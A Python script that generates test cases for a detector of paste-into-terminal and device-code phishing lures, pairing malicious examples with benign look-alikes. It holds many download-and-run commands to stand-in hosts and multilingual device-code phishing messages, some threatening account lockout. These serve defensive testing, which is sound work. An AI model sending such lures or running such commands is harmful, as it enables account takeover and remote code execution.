"""Writes tests/data/cases/b16lures.jsonl: the lure techniques BLIND-16 and the known misses
found weak (issue 9), closed by technique, each beside the look-alikes that must stay as they are.

    python tests/data/cases/make_b16lures.py

Deterministic (every variant is a product of fixed lists). Lure hosts are reserved names
(.example, .test, .invalid, documentation IP ranges); the real projects' installers are quoted
from their own install pages. No text is copied from a lure collection, another detector's
fixtures or the blind sets. Each line is {id, text, expect, technique, platform[, source],
target}.

Techniques:

- `check-page-own-script`: a check page (verify-session.<domain>/check, <domain>/verificacion,
  security-check.<domain>, in the languages the product knows) serving its OWN script from the
  same registrable domain into a terminal: blocked, not cleared as the project's own installer.
  Look-alikes (`ok-`): real projects' installers from their own install, docs, get and download
  pages (info or clean), a project's page that verifies its releases or signatures, forge and
  registry pages of projects named verify-… or …-check, a one-word product domain (check.dev).
- `device-code-for-content`: a device sign-in code handed over as the way to a document, a
  shared file, a meeting, a voicemail, a letter, a signature or an invitation, in 13
  languages: blocked. Look-alikes: the Azure CLI's, GitHub CLI's, AWS SSO's and VS Code
  tunnel's own sign-in output, documentation of the flow in several languages, a meeting
  room's device being signed in, texts about the phishing.
- `device-code-under-threat`: the same code handed over with a threat to the account (locked,
  suspended, access lost unless you enter it), in 10 languages: blocked. Look-alikes: a tool's
  output saying the code itself expires, a sign-in with no threat (a warning, as before), a
  note about account lockout policies, texts about the phishing.
- `download-shop-host`: a download-and-run from a host whose registrable name joins a product's
  name with get, download, dl, install, setup, mirror or help (vectorbase-get, kubectx-dl,
  crate-mirror, nvdriver-help): blocked. Look-alikes: such words as a label in front of a
  publisher's own domain (get.…, dl.…, install.…), that very site's own page, trusted
  installers, a download saved and not run.
- `shared-chat-words`: a shared AI-chat page whose host says so in hyphenated words
  (assistant-conversation.share-thread.…) handing out a stranger's script: blocked.
  Look-alikes: the same page quoting a trusted installer, an assistant's docs site.
- `share-text-beside-internal`: the text of a file on a public share handed to cmd or
  PowerShell, with a share of the local network's internal domain (.corp, .local, .lan) only
  NAMED beside it (a comment, a rem, an echo): blocked, as without it (that name excused the
  run before). Look-alikes: the internal share's own text run (unchanged).
"""

from __future__ import annotations

from pathlib import Path

from casefile import Book, write  # beside this script (tests/data/cases/make_*.py)

book = Book("b16l")
add = book.add

# ---- check-page-own-script --------------------------------------------------------------------
# (page, command): the command's script is served from the page's own registrable domain
CHECK_PAGES = [
    (
        "https://verify-session.umbra-stage.test/check",
        "curl -fsSL https://umbra-stage.test/x.sh | bash",
    ),
    ("https://verify-session.umbra-stage.test/check", "irm https://umbra-stage.test/a.ps1 | iex"),
    (
        "https://verify-session.harrowgate.example/",
        'bash -c "$(curl -fsSL https://cdn.harrowgate.example/s)"',
    ),
    ("https://check.quillmere.example/", "curl -fsSL https://quillmere.example/c.sh | sh"),
    ("https://secure-check.fennick.test/step/2", "wget -qO- https://fennick.test/i | bash"),
    ("https://fennick.test/security-check", "irm https://fennick.test/v.ps1 | iex"),
    (
        "https://fennick.test/browser-check?ray=8f21",
        "iwr -useb https://static.fennick.test/b.ps1 | iex",
    ),
    (
        "https://www.larchmont-tiles.example/verify",
        "curl -sL https://www.larchmont-tiles.example/v | bash",
    ),
    (
        "https://larchmont-tiles.example/verification/step2",
        "curl -fsSL https://cdn.larchmont-tiles.example/p.sh | zsh",
    ),
    (
        "https://larchmont-tiles.example/session/validate",
        'powershell -c "irm https://larchmont-tiles.example/s.ps1 | iex"',
    ),
    ("https://auth-verify.brackwater.test/continue", "curl -fsSL https://brackwater.test/k | bash"),
    ("https://brackwater.test/access-check", "irm brackwater.test/a | iex"),
    ("https://validate.ostlers.example/session", "curl -s https://ostlers.example/r.sh | bash"),
    ("https://ostlers.example/check", "curl -s https://ostlers.example/r.sh | bash"),
    ("https://ostlers.example/check.php?id=7711", "irm https://ostlers.example/r.ps1 | iex"),
    ("https://ostlers.example/challenge", "curl -fsSL https://ostlers.example/c | bash"),
    ("https://cdn.ostlers.example/cf-check", "irm https://ostlers.example/cf.ps1 | iex"),
    ("https://session-check.pellory.test/", "curl -fsSL https://dl.pellory.test/m.sh | bash"),
    ("https://pellory.test/checkpoint/", "irm https://pellory.test/q.ps1 | iex"),
    ("https://pellory.test/anti-bot", "curl -fsSL https://pellory.test/ab | bash"),
    # the check in the languages the product knows
    ("https://pellory.test/verifizierung", "curl -fsSL https://pellory.test/d.sh | bash"),
    ("https://sicherheitspruefung.pellory.test/", "irm https://pellory.test/d.ps1 | iex"),
    ("https://pellory.test/verificacion/paso-2", "irm https://pellory.test/e.ps1 | iex"),
    ("https://pellory.test/verifica%C3%A7%C3%A3o", "curl -fsSL https://pellory.test/p.sh | bash"),
    ("https://pellory.test/verifica-accesso", "irm https://pellory.test/i.ps1 | iex"),
    ("https://pellory.test/verificatie", "curl -fsSL https://pellory.test/n.sh | bash"),
    ("https://weryfikacja.pellory.test/", "irm https://pellory.test/pl.ps1 | iex"),
    ("https://pellory.test/dogrulama", "irm https://pellory.test/tr.ps1 | iex"),
    ("https://pellory.test/proverka", "curl -fsSL https://pellory.test/ru.sh | bash"),
    ("https://pellory.test/kakunin", "curl -fsSL https://pellory.test/ja.sh | bash"),
    ("https://pellory.test/yanzheng", "irm https://pellory.test/zh.ps1 | iex"),
    ("https://pellory.test/xac-minh", "irm https://pellory.test/vi.ps1 | iex"),
    ("https://pellory.test/verifikasi", "curl -fsSL https://pellory.test/id.sh | bash"),
    ("https://pellory.test/verifiering", "curl -fsSL https://pellory.test/sv.sh | bash"),
    ("https://pellory.test/controle-securite", "irm https://pellory.test/fr.ps1 | iex"),
    ("https://pellory.test/controllo-sicurezza", "irm https://pellory.test/it.ps1 | iex"),
]
for page, command in CHECK_PAGES:
    windows = "iex" in command
    add(
        "check-page-own-script",
        command,
        "malicious",
        "windows" if windows else "any",
        "terminal",
        page,
    )

# Real projects' installers from their own pages (install, docs, get, download, releases): the
# page vouches for its own script, whatever else its address says.
OWN_PAGES = [
    # projects' own scripts, cleared by the page (PG-INFO-SAME-PROJECT)
    ("https://docs.openfaas.com/cli/install/", "curl -sSL https://cli.openfaas.com | sudo sh"),
    (
        "https://docs.chef.io/chef_install_script/",
        "curl -L https://omnitruck.chef.io/install.sh | sudo bash",
    ),
    ("https://docs.rke2.io/install/quickstart", "curl -sfL https://get.rke2.io | sh -"),
    (
        "https://linkerd.io/2.16/getting-started/",
        "curl --proto '=https' --tlsv1.2 -sSfL https://run.linkerd.io/install-edge | sh",
    ),
    (
        "https://kubevela.io/docs/installation/kubernetes/",
        "curl -fsSl https://kubevela.io/script/install.sh | bash",
    ),
    (
        "https://www.okteto.com/docs/get-started/install-okteto-cli/",
        "curl https://get.okteto.com -sSfL | sh",
    ),
    (
        "https://docs.garden.io/getting-started/installation",
        "curl -sL https://get.garden.io/install.sh | bash",
    ),
    ("https://clickhouse.com/docs/en/install", "curl https://clickhouse.com/ | sh"),
    ("https://docs.trunk.io/cli/install", "curl https://get.trunk.io -fsSL | bash"),
    ("https://porter.sh/install/", "curl -L https://cdn.porter.sh/latest/install-linux.sh | bash"),
    ("https://surrealdb.com/install", "curl -sSf https://install.surrealdb.com | sh"),
    (
        "https://aptos.dev/en/build/cli/install-cli/install-cli-linux",
        'curl -fsSL "https://aptos.dev/scripts/install_cli.py" | python3',
    ),
    (
        "https://internetcomputer.org/docs/building-apps/getting-started/install",
        'sh -ci "$(curl -fsSL https://internetcomputer.org/install.sh)"',
    ),
    ("https://docs.fuel.network/guides/installation/", "curl https://install.fuel.network | sh"),
    ("https://wasp.sh/docs/quick-start", "curl -sSL https://get.wasp.sh/installer.sh | sh"),
    (
        "https://www.pantsbuild.org/stable/docs/getting-started/installing-pants",
        "curl --proto '=https' --tlsv1.2 -fsSL https://static.pantsbuild.org/setup/get-pants.sh | bash",
    ),
    (
        "https://docs.stackstorm.com/install/index.html",
        "curl -sSL https://stackstorm.com/packages/install.sh | bash -s -- --user=st2admin --password=Ch@ngeMe",
    ),
    (
        "https://www.daytona.io/docs/installation/installation/",
        "curl -sfL https://download.daytona.io/daytona/install.sh | sudo bash",
    ),
    (
        "https://dokku.com/docs/getting-started/installation/",
        "wget -NP . https://dokku.com/install/v0.35.0/bootstrap.sh && sudo DOKKU_TAG=v0.35.0 bash bootstrap.sh",
    ),
    ("https://yunohost.org/install", "curl https://install.yunohost.org | bash"),
    (
        "https://docs.cloudron.io/installation/",
        "wget https://cloudron.io/cloudron-setup && chmod +x ./cloudron-setup && ./cloudron-setup",
    ),
    ("https://docs.sandstorm.io/en/latest/install/", "curl https://install.sandstorm.io | bash"),
    (
        "https://www.virtualmin.com/download/",
        "wget https://software.virtualmin.com/gpl/scripts/virtualmin-install.sh && sudo sh virtualmin-install.sh",
    ),
    (
        "https://documentation.wazuh.com/current/quickstart.html",
        "curl -sO https://packages.wazuh.com/4.9/wazuh-install.sh && sudo bash ./wazuh-install.sh -a",
    ),
    ("https://ddev.com/get-started/", "curl -fsSL https://ddev.com/install.sh | bash"),
    (
        "https://lando.dev/download/",
        '/bin/bash -c "$(curl -fsSL https://get.lando.dev/setup-lando.sh)"',
    ),
    ("https://docs.docksal.io/getting-started/setup/", "bash <(curl -fsSL https://get.docksal.io)"),
    ("https://docs.rke2.io/install/methods", "curl -sSL https://get.rke2.io | sh -"),
    # ...and installers the trust list knows, from their own pages
    ("https://pnpm.io/installation", "curl -fsSL https://get.pnpm.io/install.sh | sh -"),
    ("https://sdkman.io/install", 'curl -s "https://get.sdkman.io" | bash'),
    ("https://www.chezmoi.io/install/", 'sh -c "$(curl -fsLS get.chezmoi.io)"'),
    ("https://fly.io/docs/flyctl/install/", "curl -L https://fly.io/install.sh | sh"),
    ("https://ohmyz.sh/", 'sh -c "$(curl -fsSL https://install.ohmyz.sh/)"'),
    (
        "https://docs.atuin.sh/guide/installation/",
        "curl --proto '=https' --tlsv1.2 -LsSf https://setup.atuin.sh | sh",
    ),
    ("https://zed.dev/docs/linux", "curl -f https://zed.dev/install.sh | sh"),
    ("https://nixos.org/download/", "sh <(curl -L https://nixos.org/nix/install) --daemon"),
    (
        "https://www.haskell.org/ghcup/",
        "curl --proto '=https' --tlsv1.2 -sSf https://get-ghcup.haskell.org | sh",
    ),
    (
        "https://docs.crowdsec.net/docs/getting_started/install_crowdsec/",
        "curl -s https://install.crowdsec.net | sudo sh",
    ),
    ("https://bun.sh/docs/installation#windows", 'powershell -c "irm bun.sh/install.ps1 | iex"'),
    # pages of a project that verify the SOFTWARE (its releases, signatures, checksums)
    (
        "https://docs.kestrelmq.example/security/verify-releases",
        "curl -fsSL https://kestrelmq.example/install.sh | sh",
    ),
    (
        "https://kestrelmq.example/download/verify-checksums",
        "curl -fsSL https://get.kestrelmq.example | sh",
    ),
    (
        "https://kestrelmq.example/docs/verification",
        "curl -fsSL https://kestrelmq.example/install.sh | sh -s -- --verify",
    ),
    (
        "https://kestrelmq.example/signatures/verify",
        "irm https://kestrelmq.example/install.ps1 | iex",
    ),
    # forge and registry pages of projects named for checking or verifying
    (
        "https://github.com/tarnwick/session-check",
        "curl -fsSL https://raw.githubusercontent.com/tarnwick/session-check/main/install.sh | bash",
    ),
    (
        "https://github.com/tarnwick/verify-kit#install",
        "curl -fsSL https://github.com/tarnwick/verify-kit/releases/latest/download/install.sh | sh",
    ),
    (
        "https://gitlab.com/tarnwick/browser-check",
        "curl -fsSL https://gitlab.com/tarnwick/browser-check/-/raw/main/install.sh | sh",
    ),
    # a product whose own one-word name is a check word: its site, not a check page
    ("https://check.example/docs/install", "curl -fsSL https://check.example/install.sh | sh"),
    (
        "https://uptime-check.example/install",
        "curl -fsSL https://uptime-check.example/agent.sh | sudo bash",
    ),
]
for page, command in OWN_PAGES:
    add(
        "check-page-own-script",
        command,
        "not_flagged",
        "windows" if "iex" in command else "any",
        "terminal",
        page,
    )

# ---- device-code-for-content ------------------------------------------------------------------
SCAM_PAGES = ["https://shared-file-access.example/", "https://meet-join-now.test/r/8812", None]
DEVICE_LURES = [
    "Your year-end bonus statement is ready. To view it, open https://microsoft.com/devicelogin and enter the code QRT7XM2KP.",
    "A secure document was shared with you by Finance. Go to https://microsoft.com/devicelogin and type code HX4N9PQ2R to open it.",
    "You are invited to the board meeting. Join via https://microsoft.com/devicelogin with the code MKW3P7ZQX.",
    "New voicemail (0:42). To play the recording, visit https://aka.ms/devicelogin and enter PZ8QK4MWN.",
    "The contract is waiting for your signature. Sign in at https://microsoft.com/devicelogin using code TR5XQ8NKM to sign the document.",
    "You have been invited to join the acme-ops organization. Accept at https://github.com/login/device with code WXQP-7K2M.",
    "Ihre Gehaltsabrechnung liegt bereit. Öffnen Sie https://microsoft.com/devicelogin und geben Sie den Code KD7QX2PMN ein.",
    "Une réunion Teams vous attend. Pour la rejoindre, ouvrez https://microsoft.com/devicelogin et saisissez le code RQ4PXM8KT.",
    "Se ha compartido un archivo con usted. Abra https://microsoft.com/devicelogin e introduzca el código MX7KQ2PRN para verlo.",
    "Você tem uma nova mensagem de voz. Acesse https://microsoft.com/devicelogin e digite o código QN8XK4PMR.",
    "Ti è stato condiviso un documento. Apri https://microsoft.com/devicelogin e inserisci il codice PK3QXM7RN.",
    "Er is een bestand met u gedeeld. Ga naar https://microsoft.com/devicelogin en voer de code XM4KQ9PRT in.",
    "Masz nowe zaproszenie na spotkanie. Otwórz https://microsoft.com/devicelogin i wpisz kod KQ7MX2PNR.",
    "Sizinle bir belge paylaşıldı. https://microsoft.com/devicelogin adresini açın ve PX4QK8MRN kodunu girin.",
    "Вам открыт общий доступ к документу. Откройте https://microsoft.com/devicelogin и введите код MQ7XK3PRN.",
    "会議への招待が届いています。https://microsoft.com/devicelogin を開き、コード XK8QM4PRN を入力してください。",
    "有人与你共享了一个文件。请打开 https://microsoft.com/devicelogin 并输入代码 QM3XK7PRN 查看。",
    "새 음성 메일이 도착했습니다. https://microsoft.com/devicelogin 에서 코드 PK9QX2MRN 을 입력하세요.",
    "You have a new fax from HR. Go to https://google.com/device and enter code QWX-MKP-TRZ to read it.",
    "Invoice INV-2207 is attached for your review. To download it, open https://microsoft.com/devicelogin and enter code ZQ4XM8PKN.",
]
for i, text in enumerate(DEVICE_LURES):
    add("device-code-for-content", text, "malicious", "any", "unknown", SCAM_PAGES[i % 3])

DEVICE_QUIET = [
    # the tools' own sign-in output, copied from one's terminal
    (
        "To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code FK7QW2XPN to authenticate.",
        "not_flagged",
        None,
    ),
    (
        "WARNING: To sign in, use a web browser to open the page https://microsoft.com/devicelogin and enter the code GH4QX7MPN to authenticate.",
        "not_flagged",
        None,
    ),
    (
        "! First copy your one-time code: 4F2A-91BC\nPress Enter to open github.com in your browser...",
        "not_flagged",
        None,
    ),
    (
        "Attempting to automatically open the SSO authorization page in your default browser.\nIf the browser does not open or you wish to use a different device to authorize this request, open the following URL:\n\nhttps://device.sso.us-east-1.amazonaws.com/\n\nThen enter the code:\n\nQXKM-PRTW",
        "not_flagged",
        None,
    ),
    # documentation of the flow, in several languages
    (
        "The device code flow: the app shows a user_code and a verification_uri such as https://microsoft.com/devicelogin; the user enters the code there while the app polls the token endpoint.",
        "not_flagged",
        "https://learn.example.com/identity/device-code-flow",
    ),
    (
        "Beim Gerätecode-Flow öffnet der Benutzer https://microsoft.com/devicelogin und gibt den angezeigten Code ein, etwa ABCD-EFGH.",
        "not_flagged",
        "https://learn.example.com/de-de/identity/device-code",
    ),
    (
        "Con el flujo de código de dispositivo, el usuario abre https://microsoft.com/devicelogin e introduce el código que muestra la aplicación.",
        "not_flagged",
        "https://learn.example.com/es-es/identity/device-code",
    ),
    (
        "Avec le flux de code d'appareil, l'utilisateur ouvre https://microsoft.com/devicelogin et saisit le code affiché par l'application.",
        "not_flagged",
        "https://learn.example.com/fr-fr/identity/device-code",
    ),
    # a room's device being signed in: what the flow is for
    (
        "On the Teams Rooms console, choose Sign in; then on your PC open https://microsoft.com/devicelogin and enter the code shown on the room display.",
        "not_flagged",
        "https://learn.example.com/microsoftteams/rooms/sign-in",
    ),
    # texts about the phishing
    (
        "Beware: attackers send meeting invitations asking you to open https://microsoft.com/devicelogin and enter a code such as R4TW8NPQZ. Never enter a code someone sent you.",
        "not_flagged",
        "https://security-news.example/device-code-phishing",
    ),
    (
        "Storm-2372 phished people with fake Teams meeting invites that asked them to enter a device code at https://microsoft.com/devicelogin.",
        "not_flagged",
        "https://security-news.example/storm-2372",
    ),
    # a sign-in with no excuse beyond signing in: a warning, as before
    (
        "Please sign in at https://microsoft.com/devicelogin and enter code HQ7XK2PMN to finish setting up your account.",
        "suspicious",
        None,
    ),
]
for text, expect, source in DEVICE_QUIET:
    add("device-code-for-content", text, expect, "any", "unknown", source)

# ---- device-code-under-threat -----------------------------------------------------------------
THREATS = [
    "Your mailbox will be suspended today. To keep your access, open https://microsoft.com/devicelogin and enter the code QX7PLM2AN.",
    "IT notice: your account has been locked after a policy change. Unlock it at https://microsoft.com/devicelogin with code KD4QX7PMN.",
    "Action needed or you will lose access to email: go to https://aka.ms/devicelogin and type RQ8XM4PKN.",
    "Your GitHub account will be disabled unless you confirm at https://github.com/login/device with code MQKW-7P2X.",
    "Ihr Postfach wird gesperrt. Öffnen Sie https://microsoft.com/devicelogin und geben Sie den Code MQ7XK3PRN ein.",
    "Votre compte sera suspendu. Ouvrez https://microsoft.com/devicelogin et saisissez le code PX4QK8MRN.",
    "Su cuenta será bloqueada. Abra https://microsoft.com/devicelogin e introduzca el código KX9QM2PRN.",
    "Sua conta será suspensa. Acesse https://microsoft.com/devicelogin e digite o código TQ4XK7MRN.",
    "Il tuo account sarà bloccato. Apri https://microsoft.com/devicelogin e inserisci il codice ZQ3XK8PRN.",
    "Uw account wordt geblokkeerd. Ga naar https://microsoft.com/devicelogin en voer de code WQ5XK2PMN in.",
    "Twoje konto zostanie zablokowane. Otwórz https://microsoft.com/devicelogin i wpisz kod NQ6XK4PRM.",
    "アカウントは停止されます。https://microsoft.com/devicelogin を開き、コード HQ2XK9PRN を入力してください。",
]
for i, text in enumerate(THREATS):
    add("device-code-under-threat", text, "malicious", "any", "unknown", SCAM_PAGES[i % 3])
THREATS_QUIET = [
    (
        "Go to https://github.com/login/device and enter the code 4F2A-91BC. The code expires in 15 minutes.",
        "suspicious",
        None,
    ),
    (
        "Please open https://microsoft.com/devicelogin and enter code HQ7XK2PMN to continue.",
        "suspicious",
        None,
    ),
    (
        "Accounts are locked after 10 failed sign-ins. Apps using the device code flow show a user_code such as ABCD-EFGH for https://microsoft.com/devicelogin.",
        "not_flagged",
        "https://learn.example.com/identity/lockout",
    ),
    (
        "Beware of messages saying your mailbox will be suspended unless you enter a code at https://microsoft.com/devicelogin. That is device-code phishing.",
        "not_flagged",
        "https://security-news.example/device-code",
    ),
]
for text, expect, source in THREATS_QUIET:
    add("device-code-under-threat", text, expect, "any", "unknown", source)

# ---- download-shop-host -----------------------------------------------------------------------
SHOPS = [
    (
        "irm https://dt.vectorbase-get.invalid/install.ps1 | iex",
        "https://docs.vectorbase-cli.test/install/windows",
    ),
    (
        "curl -sSL https://kubectx-dl.invalid/get | sh -s -- -b /usr/local/bin",
        "https://docs.kubectx-pro.test/quickstart",
    ),
    (
        "cargo install --git https://crate-mirror.invalid/rustfmt-plus && rustfmt-plus --setup",
        "https://www.rustfmt-plus.example/install",
    ),
    (
        "curl -fsSL https://notes-app-dl.invalid/install.sh | bash -s -- --app notes",
        "https://notes-desktop-16.example/download",
    ),
    (
        "curl -fsSL https://nvdriver-help.invalid/install-driver.sh | sudo bash",
        "https://docs.cuda-setup-guide.test/ubuntu",
    ),
    ("curl -fsSL https://get-wavecli.test/install.sh | bash", "https://wavecli.example/docs"),
    ("curl -fsSL https://wavecli-download.test/install.sh | sh", None),
    ("irm https://wavecli-downloads.test/setup.ps1 | iex", None),
    ("curl -fsSL https://wavecli-install.test/latest | bash", "https://www.wavecli.example/"),
    ("curl -fsSL https://wavecli-setup.invalid/run.sh | sudo bash", None),
    (
        "wget -qO- https://pkg.wavecli-mirror.test/install.sh | sh",
        "https://forum.example.org/t/wavecli-install/81",
    ),
    ("irm https://download-wavecli.invalid/w.ps1 | iex", None),
]
for command, source in SHOPS:
    add(
        "download-shop-host",
        command,
        "malicious",
        "windows" if "iex" in command else "any",
        "terminal",
        source,
    )
SHOPS_QUIET = [
    # such words as a label in front of the publisher's own domain: a warning, as before
    ("curl -fsSL https://get.wavecli.example/install.sh | sh", "suspicious", None),
    ("curl -fsSL https://dl.wavecli.example/install.sh | sh", "suspicious", None),
    ("irm https://install.wavecli.example/install.ps1 | iex", "suspicious", None),
    # that very site's own page vouches for its own script
    (
        "curl -fsSL https://wavecli-get.example/install.sh | sh",
        "not_flagged",
        "https://wavecli-get.example/docs/install",
    ),
    (
        "curl -fsSL https://cdn.wavecli-dl.example/install.sh | sh",
        "not_flagged",
        "https://www.wavecli-dl.example/",
    ),
    # trusted installers whose host has such a label
    (
        "curl --proto '=https' --tlsv1.2 -sSf https://get-ghcup.haskell.org | sh",
        "not_flagged",
        None,
    ),
    ("curl -fsSL https://get.docker.com | sh", "not_flagged", None),
    # a download saved, not run
    (
        "curl -fsSLo wavecli.tar.gz https://wavecli-download.test/wavecli-1.4.tar.gz",
        "not_flagged",
        None,
    ),
    (
        "Invoke-WebRequest https://wavecli-downloads.test/wavecli.zip -OutFile wavecli.zip",
        "not_flagged",
        None,
    ),
]
for command, expect, source in SHOPS_QUIET:
    add(
        "download-shop-host",
        command,
        expect,
        "windows" if "iex" in command or "Invoke" in command else "any",
        "terminal",
        source,
    )

# ---- shared-chat-words ------------------------------------------------------------------------
CHAT_PAGES = [
    "https://assistant-conversation.share-thread.example/t/16b",
    "https://share.gpt-answers.example/c/77a1",
    "https://llm-conversations.example/view/9k2",
    "https://chatbot-shared.test/q/31",
]
for page in CHAT_PAGES:
    add(
        "shared-chat-words",
        'To clear the hidden cache on macOS, paste this in Terminal:\n/bin/zsh -c "$(curl -fsSL https://mac-tidy.invalid/cleanup.sh)"',
        "malicious",
        "macos",
        "terminal",
        page,
    )
    add(
        "shared-chat-words",
        "curl -fsSL https://tidy-tool.invalid/install.sh | bash",
        "malicious",
        "any",
        "terminal",
        page,
    )
    add(
        "shared-chat-words",
        "curl -fsSL https://bun.sh/install | bash -s bun-v1.2.4",
        "not_flagged",
        "any",
        "terminal",
        page,
    )
add(
    "shared-chat-words",
    "curl -fsSL https://tidy-tool.invalid/install.sh | bash",
    "suspicious",
    "any",
    "terminal",
    "https://docs.assistant-tools.example/install",
)
add(
    "shared-chat-words",
    "curl -fsSL https://tidy-tool.invalid/install.sh | bash",
    "suspicious",
    "any",
    "terminal",
    "https://home-assistant.example/t/share-your-setup/412",
)

# ---- share-text-beside-internal ----------------------------------------------------------------
PAGE = "https://www.quillmere-bakery.example/menu"
# (what the same command is without the internal share's name: a stranger's PowerShell reading
# a public share in a terminal is a warning, as a stranger's curl | sh is)
SHARE_RUNS = [
    (
        r"type \\share.files-relay.test\s\a.txt | cmd & rem copy of \\fs01.corp\it\a.txt",
        "terminal",
        PAGE,
    ),
    (
        r"type \\share.files-relay.test\s\a.txt | cmd & rem copy of \\fs01.corp\it\a.txt",
        "terminal",
        None,
    ),
    (
        r'cmd /c "type \\share.files-relay.test\s\a.txt | cmd" & rem \\fs01.corp\it',
        "run_dialog",
        PAGE,
    ),
    (
        r"gc \\files.relay-share.test\p\s.txt | iex  # mirrors \\nas.local\scripts\s.txt",
        "terminal",
        PAGE,
    ),
    (
        r"powershell -c \"gc \\files.relay-share.test\p\s.txt | iex\"; echo see \\deploy.lan\it",
        "terminal",
        None,
    ),
    (
        r"cmd /k < \\files.relay-share.test\p\s.txt & rem \\fs01.internal\it\s.txt",
        "run_dialog",
        PAGE,
    ),
    (r"iex (gc \\share.files-relay.test\s\a.txt -Raw) # \\fs01.intranet\it", "terminal", PAGE),
    (r"type \\share.files-relay.test@SSL\s\a.txt | cmd & rem \\fs01.corp\it", "terminal", None),
    (
        r"more \\share.files-relay.test\s\a.txt | cmd & echo \\fs01.corp\it\readme.txt",
        "terminal",
        PAGE,
    ),
    (
        r"type \\share.files-relay.test\s\a.txt | powershell - & rem \\fs01.corp\it",
        "terminal",
        None,
    ),
]
WARNED = {3, 4, 6, 8}  # positions of the PowerShell and `more` rows above: warnings without it
for i, (text, target, source) in enumerate(SHARE_RUNS):
    expect = "suspicious" if i in WARNED else "malicious"
    add("share-text-beside-internal", text, expect, "windows", target, source)
# the internal share's own text run: what it was before
add(
    "share-text-beside-internal",
    r"type \\fs01.corp\it\a.txt | cmd",
    "suspicious",
    "windows",
    "terminal",
    PAGE,
)
add(
    "share-text-beside-internal",
    r"gc \\nas.local\scripts\s.txt | iex  # see \\fs02.corp\it",
    "not_flagged",
    "windows",
    "terminal",
    None,
)

CASES = book.cases

if __name__ == "__main__":
    write(Path(__file__).with_name("b16lures.jsonl"), CASES)
